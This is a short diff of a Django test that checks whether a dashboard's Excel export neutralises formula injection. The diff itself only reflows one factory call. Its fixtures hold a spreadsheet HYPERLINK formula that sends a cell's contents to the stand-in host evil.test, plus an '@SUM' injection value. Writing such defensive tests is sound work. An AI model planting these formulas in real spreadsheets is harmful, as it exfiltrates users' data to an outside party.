@@ -18,8 +18,9 @@ HOSTILE = '=HYPERLINK("http://evil.test/?"&B3,"Xem văn bản")'
 @pytest.mark.django_db
 def test_dashboard_workbook_neutralises_formulas(world, client_for):
     overdue_since = timezone.localdate() - datetime.timedelta(days=40)
-    RegulationFactory(host_agency=world.vks_ks, partners=[world.ta_ks], number="@SUM(1+1)", title=HOSTILE,
-                      due=overdue_since)
+    RegulationFactory(
+        host_agency=world.vks_ks, partners=[world.ta_ks], number="@SUM(1+1)", title=HOSTILE, due=overdue_since
+    )
     response = client_for(world.kh_leader).get(reverse("dashboard:export_xlsx"))
     assert response.status_code == 200
     wb = load_workbook(io.BytesIO(response.content))
